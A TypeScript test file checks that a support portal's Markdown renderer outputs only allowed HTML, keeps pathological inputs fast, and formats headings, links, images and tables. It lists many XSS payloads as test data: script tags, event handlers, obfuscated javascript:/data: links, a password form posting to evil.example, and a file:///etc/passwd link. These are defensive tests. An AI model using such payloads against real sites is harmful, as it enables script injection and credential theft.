/** Markdown as HTML: what may stand in an article, and hostile text that stays text. */
import { expect, test } from 'vitest';
import { type MarkdownPlace, renderMarkdown } from './render-markdown.ts';

const place: MarkdownPlace = {
  publicUrl: 'https://support.acme.example',
  portalPath: '/support',
  articlePath: '/support/kb/exports',
  sectionLink: (heading) => `Link to “${heading}”`,
  table: 'Table',
  code: 'Code',
};
const render = (markdown: string) => renderMarkdown(markdown, place);

/** Everything that HTML can do by itself; text is escaped, so a "<" is always a tag of ours. */
const tags = new Set(
  'a blockquote br code div em h2 h3 h4 h5 h6 hr img li ol p pre s strong table tbody td th thead tr ul'.split(
    ' ',
  ),
);
const attributes = new Set(
  'href rel id class src alt loading start tabindex role aria-label title'.split(' '),
);

function activeContentOf(html: string): string[] {
  const found: string[] = [];
  for (const [tag, name = '', inside = ''] of html.matchAll(
    /<\/?([^\s>/]+)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/g,
  )) {
    if (!tags.has(name.toLowerCase())) found.push(tag);
    for (const [, attribute = '', value = ''] of inside.matchAll(/([^\s=]+)(?:="([^"]*)")?/g)) {
      if (!attributes.has(attribute)) found.push(`${tag}: ${attribute}`);
      if (
        attribute === 'href' &&
        !/^(https?:\/\/|mailto:|#h-|\/support(\/|$)|[a-z0-9][a-z0-9./-]*$)/i.test(value)
      )
        found.push(`${tag}: ${value}`);
      if (attribute === 'src' && !value.startsWith('/support/')) found.push(`${tag}: ${value}`);
    }
  }
  // What the pattern above took for no tag must not be one for a browser either.
  const rest = html.replace(/<\/?([^\s>/]+)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/g, '');
  if (rest.includes('<')) found.push(rest);
  return found;
}

test.each([
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>@import "//evil.example"</style>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<form action=//evil.example><input name=password></form>',
  '<!-- <script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://support.acme.example/1)',
  '[x](//evil.example/x)',
  '[x](\\\\evil.example\\x)',
  '[x](/\\evil.example)',
  '[x](https:evil.example)',
  '[x](/trpc/auth.me)',
  '[x](../../trpc/auth.me)',
  '[x](/support/../healthz)',
  '[x](/support-other/kb)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](//evil.example/x.png)',
  '![x" onerror="alert(1)](/support/kb/a.png)',
  '![x](/support/kb/a.png "t\\" onerror=\\"alert(1)")',
  '[x](https://a.example "t\\" onmouseover=\\"alert(1)")',
  '[x](https://a.example/"onmouseover="alert(1))',
  '[x](https://a.example/<script>)',
  '<javascript:alert(1)>',
  '<https://a.example/"onclick=alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '[a]: <javascript:alert(1)> "x"\n\n![a]',
  '```"><script>alert(1)</script>\ncode\n```',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '`<script>`',
  '# <script>alert(1)</script>',
  '# " onclick="alert(1)',
  '| <b onclick=alert(1)> |\n| :-: |\n| `<script>` |',
  '[[[x](javascript:alert(1))](javascript:alert(2))](https://a.example)',
  '[![x](javascript:alert(1))](javascript:alert(2))',
  '[![x](https://remote.example/a.png)](https://a.example)',
  '**<b>**_<i onload=1>_~~<s>~~',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  'javascript:alert(1) data:text/html,x',
  '\0<script>\0</script>',
  '\u202e<script>\u2066</script>',
])('nothing acts in %j', (markdown) => {
  expect(activeContentOf(render(markdown))).toEqual([]);
});

test('the check above finds what acts, so that its silence means something', () => {
  for (const html of [
    '<script>x</script>',
    '<p onclick="x">a</p>',
    '<a href="javascript:x">a</a>',
    '<a href="//evil.example">a</a>',
    '<img src="https://evil.example/x.png" alt="">',
    '<p style="x">a</p>',
    '<a href=x>',
  ])
    expect(activeContentOf(html), html).not.toEqual([]);
});

test.each([
  ['quotes', '>'.repeat(100_000)],
  ['quotes in lines', '> '.repeat(300).concat('x\n').repeat(150)],
  ['opening brackets', '['.repeat(100_000)],
  ['pairs of brackets', '[]('.repeat(33_000)],
  ['links in links', `${'['.repeat(20_000)}x${'](https://a.example)'.repeat(4_000)}`],
  ['pictures in pictures', `${'!['.repeat(30_000)}x${'](a)'.repeat(10_000)}`],
  ['stars', '*'.repeat(100_000)],
  ['stars and letters', '*a_ '.repeat(25_000)],
  ['backticks', Array.from({ length: 440 }, (_, index) => '`'.repeat(index)).join(' ')],
  ['lists in lists', Array.from({ length: 440 }, (_, index) => `${' '.repeat(index)}- x`).join('\n')],
  ['open tags', '<a '.repeat(33_000)],
  ['comments', '<!--'.repeat(25_000)],
  ['wide tables', `${'|a'.repeat(10_000)}\n${'|-'.repeat(10_000)}\n${'|\n'.repeat(10_000)}`],
  ['headings of one name', '# a\n'.repeat(20_000)],
  ['references', Array.from({ length: 8_000 }, (_, index) => `[${index}]: /x`).join('\n')],
  ['addresses', 'http://a.'.repeat(11_000)],
  ['mail addresses', 'a@'.repeat(50_000)],
  ['escapes', '\\'.repeat(100_000)],
  ['entities', '&#x'.repeat(33_000)],
])('100,000 characters of %s are shown within five seconds', (_what, markdown) => {
  expect(markdown.length).toBeLessThanOrEqual(140_000);
  // Time of this process, so that a busy machine does not fail it.
  const begin = process.cpuUsage();
  const html = render(markdown.slice(0, 100_000));
  const { user, system } = process.cpuUsage(begin);
  expect((user + system) / 1_000).toBeLessThan(5_000);
  expect(html.length).toBeLessThan(20_000_000);
});

test('headings begin below the page’s title, leave no gap, and have an address each', () => {
  const html = render('### First\n\n# Second\n\n#### Deep\n\n## First\n\n# Été à *Paris*');
  const headings = [...html.matchAll(/<(h\d) id="([^"]+)">/g)].map(([, tag, id]) => `${tag} ${id}`);
  expect(headings).toEqual(['h2 h-first', 'h2 h-second', 'h3 h-deep', 'h3 h-first-2', 'h2 h-été-à-paris']);
  expect(html).toContain('<a class="section-link" href="#h-second" aria-label="Link to “Second”">#</a></h2>');
  expect(render('[go](#Second)')).toContain('href="#h-second"');
});

test('links to other sites say so, those within the portal do not', () => {
  expect(render('[a](https://other.example/x)')).toContain(
    '<a href="https://other.example/x" rel="noopener nofollow">',
  );
  expect(render('See https://other.example/x.')).toContain(
    'rel="noopener nofollow">https://other.example/x</a>.',
  );
  expect(render('[a](mailto:help@acme.example)')).toContain('href="mailto:help@acme.example"');
  expect(render('[a](/support/tickets/new)')).toContain('<a href="/support/tickets/new">');
  expect(render('[a](other-article)')).toContain('<a href="other-article">');
  expect(render('[a](https://support.acme.example/support/kb/x)')).toContain(
    '<a href="https://support.acme.example/support/kb/x">',
  );
  expect(render('Open example.com')).not.toContain('<a');
});

test('pictures of the portal show, and those from elsewhere are links', () => {
  expect(render('![Two parts](/support/kb/invoice.png)')).toContain(
    '<img src="/support/kb/invoice.png" alt="Two parts" loading="lazy">',
  );
  const remote = render('![Two parts](https://other.example/invoice.png)');
  expect(remote).not.toContain('<img');
  expect(remote).toContain(
    '<a href="https://other.example/invoice.png" rel="noopener nofollow">Two parts</a>',
  );
  expect(render('[![Go](https://x.example/a.png)](https://a.example)')).toContain(
    '<a href="https://a.example" rel="noopener nofollow">Go</a>',
  );
});

test('tables and code are there, can be scrolled by keyboard, and need no style attribute', () => {
  const html = render('| a | b |\n| --- | --: |\n| 1 | 2 |\n\n```js\nif (a < b) go();\n```');
  expect(html).toContain('<div class="scroll" tabindex="0" role="region" aria-label="Table">');
  expect(html).toContain('<td class="align-right">2</td>');
  expect(html).toContain('aria-label="Code"><code>if (a &lt; b) go();\n</code></pre>');
  expect(html).not.toContain('style=');
});
